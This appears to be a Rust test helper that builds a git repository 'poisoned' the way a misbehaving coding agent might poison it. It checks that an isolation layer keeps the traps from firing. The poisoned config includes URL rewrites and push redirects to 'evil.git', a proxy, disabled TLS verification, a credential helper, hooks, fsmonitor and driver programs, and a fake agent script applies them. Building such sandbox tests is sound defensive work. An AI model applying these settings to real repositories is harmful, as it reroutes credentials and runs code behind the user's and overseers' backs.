//! A git dir poisoned the way an agent could poison it, and the traps that tell whether any of
//! the poison took effect.
//!
//! The poison appends to a repository's `config` every setting that would reroute the token or
//! widen a push or run a program: `url.<x>.insteadOf`/`pushInsteadOf` to a loopback listener,
//! `http.proxy` to another, `http.sslVerify=false`, `push.followTags`, an `include.path` and an
//! `includeIf` with more of the same, `core.hooksPath` with hooks, `core.fsmonitor`, a credential
//! helper, `commit.gpgSign` with a `gpg.program`, and filter, diff and merge drivers named by
//! `info/attributes` and the work tree's `.gitattributes`. It also tags `HEAD` (annotated and
//! lightweight), drops hooks into the git dir, and points the work tree's `.git` gitfile at a
//! poisoned copy of the git dir. Every program it names writes a marker file; the listeners
//! count connections. [`Poison::assert_untouched`] fails if any marker or connection appeared.
#![expect(clippy::disallowed_methods, reason = "the traps are shell scripts and the control run is real git")]

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use tokio::net::TcpListener;

/// Hooks a commit, rebase, fetch or push could run.
const HOOKS: &[&str] = &[
    "pre-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-rebase",
    "post-rewrite",
    "post-checkout",
    "reference-transaction",
    "pre-push",
    "pre-auto-gc",
];

/// A loopback TCP listener that only counts the connections it gets, and closes them.
#[derive(Debug, Clone)]
pub struct Listener {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Listener {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("binding a trap listener");
        let port = listener.local_addr().expect("the trap listener's address").port();
        let hits = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&hits);
        tokio::spawn(async move {
            while let Ok((socket, _)) = listener.accept().await {
                counted.fetch_add(1, Ordering::SeqCst);
                drop(socket);
            }
        });
        Self { port, hits }
    }

    /// `http://127.0.0.1:<port>/`.
    pub fn url(&self) -> String {
        format!("http://127.0.0.1:{}/", self.port)
    }

    /// Connections so far.
    pub fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

/// The poison, its traps, and the shell script that applies it.
#[derive(Debug)]
pub struct Poison {
    dir: PathBuf,
    /// Where `insteadOf` and `pushInsteadOf` send the origin.
    pub redirect: Listener,
    /// The `http.proxy` of the poisoned configuration.
    pub proxy: Listener,
}

impl Poison {
    /// Traps in `dir` (created) against a repository whose remote is at `remote_url`; every
    /// poisoned rewrite matches its origin (`http://127.0.0.1:<port>/`).
    pub async fn start(dir: &Path, remote_url: &str) -> Self {
        let host_end = remote_url.match_indices('/').nth(2).map_or(remote_url.len(), |(index, _)| index);
        let origin = &format!("{}/", &remote_url[..host_end]);
        let poison = Self { dir: dir.to_owned(), redirect: Listener::start().await, proxy: Listener::start().await };
        std::fs::create_dir_all(poison.markers()).expect("creating the markers folder");
        std::fs::create_dir_all(dir.join("hooks")).expect("creating the hooks folder");
        let marker = |name: &str| format!("#!/bin/sh\ntouch '{}/{name}'\ncat\n", poison.markers().display());
        for hook in HOOKS {
            executable(&dir.join("hooks").join(hook), &marker(&format!("hook-{hook}")));
        }
        for trap in ["fsmonitor", "credential-helper", "filter", "diff", "merge", "gpg"] {
            executable(&dir.join(trap), &marker(trap));
        }
        std::fs::write(dir.join("repo.config"), poison.config(origin)).expect("writing the poisoned config");
        let included = format!(
            "[http \"{origin}\"]\n\tproxy = {proxy}\n\tsslVerify = false\n[remote \"origin\"]\n\turl = {redirect}evil.git\n\tpushurl = {redirect}evil.git\n\tmirror = true\n",
            proxy = poison.proxy.url(),
            redirect = poison.redirect.url(),
        );
        std::fs::write(dir.join("included.config"), included).expect("writing the included config");
        let included_if = format!(
            "[url \"{redirect}\"]\n\tinsteadOf = {origin}\n[core]\n\tfsmonitor = {dir}/fsmonitor\n",
            redirect = poison.redirect.url(),
            dir = dir.display(),
        );
        std::fs::write(dir.join("included-if.config"), included_if).expect("writing the conditional config");
        std::fs::write(dir.join("attributes"), "* filter=poison diff=poison merge=poison\n").expect("attributes");
        poison
    }

    fn markers(&self) -> PathBuf {
        self.dir.join("markers")
    }

    /// The settings appended to the repository's `config`.
    fn config(&self, origin: &str) -> String {
        let dir = self.dir.display();
        let redirect = self.redirect.url();
        let proxy = self.proxy.url();
        format!(
            "[url \"{redirect}\"]\n\tinsteadOf = {origin}\n\tpushInsteadOf = {origin}\n\
             [http]\n\tproxy = {proxy}\n\tsslVerify = false\n\
             [push]\n\tfollowTags = true\n\
             [core]\n\thooksPath = {dir}/hooks\n\tfsmonitor = {dir}/fsmonitor\n\
             [credential]\n\thelper = !{dir}/credential-helper\n\
             [filter \"poison\"]\n\tclean = {dir}/filter\n\tsmudge = {dir}/filter\n\trequired = true\n\
             [diff \"poison\"]\n\tcommand = {dir}/diff\n\
             [merge \"poison\"]\n\tdriver = {dir}/merge %O %A %B\n\
             [commit]\n\tgpgSign = true\n[gpg]\n\tprogram = {dir}/gpg\n\
             [include]\n\tpath = {dir}/included.config\n\
             [includeIf \"gitdir:/\"]\n\tpath = {dir}/included-if.config\n"
        )
    }

    /// A POSIX shell script that poisons the repository with work tree `work_tree` and git dir
    /// `git_dir`, as an agent would: it tags `HEAD` first (before any hook is in place), then
    /// poisons the configuration, the attributes and the hooks, and points the gitfile at a
    /// poisoned copy of the git dir.
    pub fn script(&self, work_tree: &Path, git_dir: &Path) -> String {
        let (dir, tree, git_dir) = (self.dir.display(), work_tree.display(), git_dir.display());
        format!(
            "set -e\n\
             git --git-dir='{git_dir}' -c user.name=Agent -c user.email=agent@example.com tag -a -m 'by the agent' agent-annotated HEAD\n\
             git --git-dir='{git_dir}' tag agent-lightweight HEAD\n\
             cat '{dir}/repo.config' >> '{git_dir}/config'\n\
             mkdir -p '{git_dir}/info' '{git_dir}/hooks'\n\
             cp '{dir}/attributes' '{git_dir}/info/attributes'\n\
             cp '{dir}/attributes' '{tree}/.gitattributes'\n\
             cp '{dir}/hooks/'* '{git_dir}/hooks/'\n\
             rm -rf '{dir}/redirected.git'\n\
             cp -R '{git_dir}' '{dir}/redirected.git'\n\
             rm -f '{tree}/.git'\n\
             printf 'gitdir: %s\\n' '{dir}/redirected.git' > '{tree}/.git'\n"
        )
    }

    /// An agent program for the `command` backend: on its first call it poisons the repository
    /// with work tree `work_tree` and git dir `git_dir`; on every call it adds `greeting.txt`.
    pub fn agent(&self, work_tree: &Path, git_dir: &Path) -> PathBuf {
        let poison = self.dir.join("poison.sh");
        std::fs::write(&poison, self.script(work_tree, git_dir)).expect("writing the poison script");
        let applied = self.dir.join("applied");
        let agent = self.dir.join("poisoning-agent");
        let program = format!(
            "#!/bin/sh
set -e
echo hello > '{tree}/greeting.txt'
             if [ ! -e '{applied}' ]; then touch '{applied}'; sh '{poison}'; fi
echo 'Added greeting.txt.'
",
            tree = work_tree.display(),
            applied = applied.display(),
            poison = poison.display(),
        );
        executable(&agent, &program);
        agent
    }

    /// Runs [`Poison::script`] with `sh`.
    pub async fn apply(&self, work_tree: &Path, git_dir: &Path) {
        let output = tokio::process::Command::new("sh")
            .arg("-c")
            .arg(self.script(work_tree, git_dir))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .stdin(Stdio::null())
            .output()
            .await
            .expect("running the poison script");
        assert!(output.status.success(), "poisoning failed: {}", String::from_utf8_lossy(&output.stderr));
    }

    /// The markers written so far.
    pub fn markers_written(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(self.markers())
            .map(|entries| entries.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect())
            .unwrap_or_default();
        names.sort();
        names
    }

    /// Fails if a trap ran or a listener was reached.
    pub fn assert_untouched(&self) {
        assert_eq!(self.markers_written(), Vec::<String>::new(), "a program named by the poison ran");
        assert_eq!((self.redirect.hits(), self.proxy.hits()), (0, 0), "a poisoned address was reached");
    }

    /// The control: the configuration poisoned again and plain `git` run on it, as it would run
    /// without our isolation, fetching from `url` and reading the status. Proves the traps catch
    /// the poison.
    pub async fn assert_plain_git_falls_for_it(&self, work_tree: &Path, git_dir: &Path, url: &str) {
        let git = |args: &[&str]| {
            let mut command = tokio::process::Command::new("git");
            command
                .arg(format!("--git-dir={}", git_dir.display()))
                .arg(format!("--work-tree={}", work_tree.display()))
                .args(args)
                .current_dir(work_tree)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .env("GIT_TERMINAL_PROMPT", "0")
                .stdin(Stdio::null())
                .kill_on_drop(true);
            command
        };
        let config = std::fs::read_to_string(self.dir.join("repo.config")).expect("reading the poisoned config");
        let mut file = std::fs::OpenOptions::new().append(true).open(git_dir.join("config")).expect("opening config");
        std::io::Write::write_all(&mut file, config.as_bytes()).expect("poisoning the config");
        // It fails (the listeners hang up); the point is where it went.
        let _fetched = git(&["fetch", url, "refs/heads/main"]).output().await.expect("running git fetch");
        assert!(self.redirect.hits() + self.proxy.hits() > 0, "plain git did not follow the poisoned config");
        let _status = git(&["status", "--porcelain"]).output().await.expect("running git status");
        assert!(self.markers_written().contains(&"fsmonitor".to_owned()), "{:?}", self.markers_written());
    }
}

fn executable(path: &Path, content: &str) {
    std::fs::write(path, content).expect("writing a trap");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("making a trap executable");
}
